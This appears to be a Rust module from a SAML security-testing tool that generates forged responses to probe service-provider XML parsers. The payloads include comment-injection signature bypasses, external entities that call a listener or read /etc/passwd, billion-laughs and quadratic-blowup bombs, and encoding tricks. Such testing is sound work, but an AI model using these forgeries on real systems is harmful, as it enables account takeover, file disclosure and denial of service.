//! Attacks on the parsers of a document: parsers that disagree, entities,
//! sizes, encodings.

use std::io::Write as _;

use base64::{Engine as _, engine::general_purpose::STANDARD};
use flate2::{Compression, write::DeflateEncoder};

use crate::{
    forge::{
        Signed,
        message::attribute,
        xml::{ASSERTION, element},
    },
    scene::{Forged, SELF, Scene, VICTIM, replaced},
};

/// The attacker is called `victim@example.com.evil.example`, and a comment cuts
/// the name in two. Canonical form leaves comments out, so the signature holds.
pub(crate) fn comment_in_name_id(scene: &Scene) -> Forged {
    with_long_name(scene, &format!("{VICTIM}<!-- -->.evil.example"))
}

/// The same with a processing instruction, by an identity provider that signs
/// whatever the person is called.
pub(crate) fn instruction_in_name_id(scene: &Scene) -> Forged {
    let mut assertion = scene.assertion();
    assertion.subject.name_id = format!("{VICTIM}<?x?>.evil.example");
    scene.response(assertion.signed(&scene.idp)).xml("").into()
}

/// An element in the name.
pub(crate) fn element_in_name_id(scene: &Scene) -> Forged {
    let mut assertion = scene.assertion();
    assertion.subject.name_id = format!("{VICTIM}<saml:x></saml:x>.evil.example");
    scene.response(assertion.signed(&scene.idp)).xml("").into()
}

fn with_long_name(scene: &Scene, cut: &str) -> Forged {
    let mut assertion = scene.assertion();
    let whole = format!("{VICTIM}.evil.example");
    assertion.subject.name_id.clone_from(&whole);
    let xml = scene.response(assertion.signed(&scene.idp)).xml("");
    replaced(&xml, &whole, cut).into()
}

fn with_attribute(scene: &Scene, signed: &str, sent: &str) -> Forged {
    let mut assertion = scene.assertion();
    let attributes = attribute("email", &[signed]);
    assertion.attributes = element("saml:AttributeStatement", &[], &attributes);
    let xml = scene.response(assertion.signed(&scene.idp)).xml("");
    replaced(&xml, &format!(">{signed}<"), &format!(">{sent}<")).into()
}

/// A comment that cuts an attribute's value in two.
pub(crate) fn comment_in_attribute(scene: &Scene) -> Forged {
    let whole = format!("{VICTIM}.evil.example");
    with_attribute(scene, &whole, &format!("{VICTIM}<!-- -->.evil.example"))
}

/// A processing instruction that does.
pub(crate) fn instruction_in_attribute(scene: &Scene) -> Forged {
    let cut = format!("{VICTIM}<?x?>.evil.example");
    with_attribute(scene, &cut, &cut)
}

/// A processing instruction that names a style sheet to load.
pub(crate) fn stylesheet_instruction(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    Forged::calling(|address| format!("<?xml-stylesheet href=\"{address}\"?>{xml}"))
}

fn with_doctype(scene: &Scene, doctype: &str) -> String {
    format!("<!DOCTYPE x {doctype}>{}", scene.honest(Signed::Both))
}

/// A document type that declares nothing.
pub(crate) fn doctype(scene: &Scene) -> Forged {
    with_doctype(scene, "[]").into()
}

/// A document type that would be fetched.
pub(crate) fn external_doctype(scene: &Scene) -> Forged {
    Forged::calling(|address| with_doctype(scene, &format!("SYSTEM \"{address}\"")))
}

/// An entity that would be fetched.
pub(crate) fn external_entity(scene: &Scene) -> Forged {
    Forged::calling(|address| {
        let xml = with_doctype(scene, &format!("[<!ENTITY e SYSTEM \"{address}\">]"));
        replaced(&xml, SELF, "&e;")
    })
}

/// An entity that is a file of the server.
pub(crate) fn file_entity(scene: &Scene) -> Forged {
    let xml = with_doctype(scene, "[<!ENTITY e SYSTEM \"file:///etc/passwd\">]");
    replaced(&xml, SELF, "&e;").into()
}

/// A parameter entity that would be fetched.
pub(crate) fn parameter_entity(scene: &Scene) -> Forged {
    Forged::calling(|address| {
        with_doctype(scene, &format!("[<!ENTITY % e SYSTEM \"{address}\"> %e;]"))
    })
}

/// Entities of entities: a thousand million laughs.
pub(crate) fn billion_laughs(scene: &Scene) -> Forged {
    let mut entities = "<!ENTITY l0 \"lol\">".to_owned();
    for level in 1..10 {
        let content = format!("&l{};", level - 1).repeat(10);
        entities += &format!("<!ENTITY l{level} \"{content}\">");
    }
    let xml = with_doctype(scene, &format!("[{entities}]"));
    replaced(&xml, SELF, "&l9;").into()
}

/// One long entity, many times.
pub(crate) fn quadratic_blowup(scene: &Scene) -> Forged {
    let entity = format!("[<!ENTITY l \"{}\">]", "x".repeat(50_000));
    replaced(&with_doctype(scene, &entity), SELF, &"&l;".repeat(20_000)).into()
}

/// An entity that is declared nowhere.
pub(crate) fn unknown_entity(scene: &Scene) -> Forged {
    replaced(&scene.honest(Signed::Assertion), SELF, "&victim;").into()
}

/// Something after the end.
pub(crate) fn trailing_document(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    format!("{xml}{}", scene.response(scene.evil().xml("")).xml("")).into()
}

/// Something before the beginning.
pub(crate) fn leading_document(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    format!("{}{xml}", scene.response(scene.evil().xml("")).xml("")).into()
}

/// End tags that do not fit: a parser that recovers reads something else.
pub(crate) fn mismatched_tags(scene: &Scene) -> Forged {
    replaced(&scene.honest(Signed::Both), "</saml:Subject>", "</saml:subject>").into()
}

/// An end that is missing.
pub(crate) fn cut_off(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    xml[..xml.len() - 20].to_owned().into()
}

/// The same attribute twice.
pub(crate) fn repeated_attribute(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Assertion);
    replaced(&xml, " ID=\"_response\"", " ID=\"_response\" ID=\"_other\"").into()
}

/// No XML at all.
pub(crate) fn not_xml(_: &Scene) -> Forged {
    Forged::bytes(b"Dear Sir or Madam,")
}

/// Levels within levels: as many as fit into 256 KiB.
pub(crate) fn many_levels(scene: &Scene) -> Forged {
    levels(scene, 30_000)
}

/// A hundred thousand levels.
pub(crate) fn hundred_thousand_levels(scene: &Scene) -> Forged {
    levels(scene, 100_000)
}

fn levels(scene: &Scene, levels: usize) -> Forged {
    let content = format!("{}{}", "<a>".repeat(levels), "</a>".repeat(levels));
    scene.response(content).xml("").into()
}

/// Ten thousand attributes on one element.
pub(crate) fn ten_thousand_xml_attributes(scene: &Scene) -> Forged {
    let attributes: String = (0..10_000).map(|number| format!(" a{number}=\"\"")).collect();
    with_status(scene, &attributes)
}

/// Ten thousand namespaces on one element.
pub(crate) fn ten_thousand_namespaces(scene: &Scene) -> Forged {
    let attributes: String = (0..10_000).map(|number| format!(" xmlns:n{number}=\"n\"")).collect();
    with_status(scene, &attributes)
}

fn with_status(scene: &Scene, attributes: &str) -> Forged {
    let xml = scene.honest(Signed::Both);
    replaced(&xml, "<samlp:Status>", &format!("<samlp:Status{attributes}>")).into()
}

/// Ten thousand attributes of the person, signed; written as short as can be.
pub(crate) fn ten_thousand_attributes(scene: &Scene) -> Forged {
    let attributes = "<Attribute Name=\"a\"></Attribute>".repeat(10_000);
    let mut assertion = scene.assertion();
    assertion.attributes =
        format!("<AttributeStatement xmlns=\"{ASSERTION}\">{attributes}</AttributeStatement>");
    let xml = scene.response(assertion.signed(&scene.idp)).xml("");
    replaced(&xml, "></Attribute>", "/>").into()
}

/// One value of two hundred thousand bytes in an attribute of an element.
pub(crate) fn long_xml_attribute(scene: &Scene) -> Forged {
    let long = format!(" ID=\"_{}\"", "r".repeat(150_000));
    replaced(&scene.honest(Signed::Assertion), " ID=\"_response\"", &long).into()
}

/// Text that is longer than any response.
pub(crate) fn more_than_256_kib(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    replaced(&xml, "<samlp:Status>", &format!("{}<samlp:Status>", " ".repeat(256 * 1024))).into()
}

/// What is no base64.
pub(crate) fn bad_base64(scene: &Scene) -> Forged {
    let field = STANDARD.encode(scene.honest(Signed::Both));
    Forged::field(format!("{}!{}", &field[..100], &field[100..]))
}

/// Nothing in the field.
pub(crate) fn empty_field(_: &Scene) -> Forged {
    Forged::field("")
}

/// No field.
pub(crate) fn no_field(_: &Scene) -> Forged {
    Forged { field: None, listener: None }
}

/// Deflated, as the other binding has it.
pub(crate) fn deflated(scene: &Scene) -> Forged {
    let mut deflated = DeflateEncoder::new(Vec::new(), Compression::best());
    deflated.write_all(scene.honest(Signed::Both).as_bytes()).unwrap();
    Forged::bytes(&deflated.finish().unwrap())
}

/// UTF-16 with its mark.
pub(crate) fn utf16(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    let units = std::iter::once(0xFEFF).chain(xml.encode_utf16());
    Forged::bytes(&units.flat_map(u16::to_le_bytes).collect::<Vec<_>>())
}

/// UTF-16 without a mark, which some parsers find out by themselves.
pub(crate) fn utf16_without_mark(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    Forged::bytes(&xml.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<_>>())
}

/// An encoding in which other bytes are the brackets.
pub(crate) fn utf7_declaration(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{xml}").into()
}

/// XML 1.1, which allows other characters and line ends.
pub(crate) fn xml_1_1(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    format!("<?xml version=\"1.1\" encoding=\"UTF-8\"?>{xml}").into()
}

/// An XML declaration that is not at the very beginning.
pub(crate) fn late_declaration(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Both);
    format!("\n<?xml version=\"1.0\" encoding=\"UTF-8\"?>{xml}").into()
}

/// Text before the root element.
pub(crate) fn text_before_the_root(scene: &Scene) -> Forged {
    format!(" x {}", scene.honest(Signed::Both)).into()
}

/// A space that is none in XML.
pub(crate) fn no_break_space_before_the_root(scene: &Scene) -> Forged {
    format!("\u{a0}{}", scene.honest(Signed::Both)).into()
}

/// A comment before the root element.
pub(crate) fn comment_before_the_root(scene: &Scene) -> Forged {
    format!("\n<!-- -->\n{}", scene.honest(Signed::Both)).into()
}

/// White space, and nothing else.
pub(crate) fn white_space_alone(_: &Scene) -> Forged {
    Forged::bytes(b" \r\n\t")
}

/// A WS-Federation message.
pub(crate) fn ws_federation(scene: &Scene) -> Forged {
    let token = element("t:RequestedSecurityToken", &[], &scene.evil().xml(""));
    let trust = [("xmlns:t", "http://schemas.xmlsoap.org/ws/2005/02/trust")];
    element("t:RequestSecurityTokenResponse", &trust, &token).into()
}

/// A WS-Trust message of another version, with a genuine response inside.
pub(crate) fn ws_federation_around_a_genuine_response(scene: &Scene) -> Forged {
    let trust = [("xmlns:t", "http://docs.oasis-open.org/ws-sx/ws-trust/200512")];
    let content = scene.honest(Signed::Both);
    element("t:RequestSecurityTokenResponseCollection", &trust, &content).into()
}

/// A SAML 1.1 message.
pub(crate) fn saml_1_1(_: &Scene) -> Forged {
    let versions = [("MajorVersion", "1"), ("MinorVersion", "1"), ("ResponseID", "_response")];
    let names = [("xmlns:samlp", "urn:oasis:names:tc:SAML:1.0:protocol")];
    element("samlp:Response", &[names.as_slice(), &versions].concat(), "").into()
}

/// Bytes that are no UTF-8.
pub(crate) fn bad_utf8(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Assertion).into_bytes();
    let at = xml.windows(SELF.len()).position(|window| window == SELF.as_bytes()).unwrap();
    let mut broken = xml;
    broken[at] = 0xC0;
    Forged::bytes(&broken)
}

/// A NUL byte in the name: what reads C strings stops there.
pub(crate) fn nul_bytes(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Assertion);
    replaced(&xml, SELF, &format!("{VICTIM}\0.evil.example")).into()
}

/// A NUL as a reference, which is no character of XML either.
pub(crate) fn nul_reference(scene: &Scene) -> Forged {
    let xml = scene.honest(Signed::Assertion);
    replaced(&xml, SELF, &format!("{VICTIM}&#0;.evil.example")).into()
}
